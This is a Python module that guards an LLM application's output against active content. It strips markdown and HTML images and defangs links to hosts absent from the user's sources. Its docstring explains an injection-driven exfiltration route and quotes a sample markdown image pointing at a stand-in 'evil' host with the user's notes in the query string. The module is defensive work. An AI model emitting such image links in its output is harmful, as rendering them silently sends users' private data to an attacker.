"""Active content in output (OWASP LLM05): images that load on sight, links to unknown hosts.

A markdown or HTML image in a draft is fetched the moment it is rendered, so an injected
``![x](http://evil/?q=<notes>)`` would carry the user's notes off the machine: no image is ever
allowed. A link is allowed only to a host that the user's own data (the sources) mentions.
"""

from __future__ import annotations

import re
from collections.abc import Sequence
from urllib.parse import urlsplit

IMAGE = re.compile(r"!\[[^\]\n]*\]\s*\([^)\n]*\)|<\s*img\b|<\s*svg\b|<\s*iframe\b",
                   re.IGNORECASE)
URL = re.compile(r"(?:\b(?:https?|ftp)://|\bwww\.|//)[^\s<>\"'`)\]]+", re.IGNORECASE)
MARKDOWN_LINK = re.compile(r"\]\s*\(\s*<?([^)\s>]+)", re.IGNORECASE)
HTML_LINK = re.compile(r"<\s*a\b[^>]*\bhref\s*=\s*[\"']?([^\"'\s>]+)", re.IGNORECASE)


def host_of(url: str) -> str:
    """The lower-case host of a URL (``www.`` and a port dropped); "" when there is none."""
    text = url.strip()
    if text.lower().startswith("www."):
        text = "http://" + text
    elif text.startswith("//"):
        text = "http:" + text
    elif "://" not in text:
        return ""
    try:
        host = urlsplit(text).hostname or ""
    except ValueError:
        return text  # a malformed URL is still a link to somewhere
    return host.lower().removeprefix("www.")


def link_hosts(text: str) -> set[str]:
    """Every host ``text`` links to: bare URLs, markdown links and HTML anchors."""
    found = {host_of(m.group(0)) for m in URL.finditer(text)}
    found |= {host_of(m.group(1)) for m in MARKDOWN_LINK.finditer(text)}
    found |= {host_of(m.group(1)) for m in HTML_LINK.finditer(text)}
    return {h for h in found if h}


def active_content(text: str, sources: Sequence[str]) -> list[str]:
    """Problems with ``text``'s images and links, as sentences; empty means none."""
    problems = []
    if IMAGE.search(text):
        problems.append("it contains an image, which would load from the web when shown")
    known = set().union(*(link_hosts(s) for s in sources)) if sources else set()
    unknown = sorted(link_hosts(text) - known)
    if unknown:
        problems.append("it links to hosts that are in none of your notes: " + ", ".join(unknown))
    return problems


def inert(text: str, sources: Sequence[str]) -> str:
    """``text`` safe to render anywhere: images become their alt text, and a link to a host in
    none of the ``sources`` is defanged (``evil[.]example/a``) so no renderer makes it live."""
    text = re.sub(r"!\[([^\]\n]*)\]\s*\([^)\n]*\)", r"\1", text)
    text = re.sub(r"<\s*(?:img|svg|iframe)\b[^>]*>", "", text, flags=re.IGNORECASE)
    known = set().union(*(link_hosts(s) for s in sources)) if sources else set()

    def defang(match: re.Match[str]) -> str:
        url = match.group(0)
        host = host_of(url)
        if not host or host in known:
            return url
        bare = re.sub(r"^(?:\w+:)?//", "", url, count=1).replace("//", "/")
        return bare.replace(".", "[.]")  # readable, copyable by hand, live nowhere

    return URL.sub(defang, text)
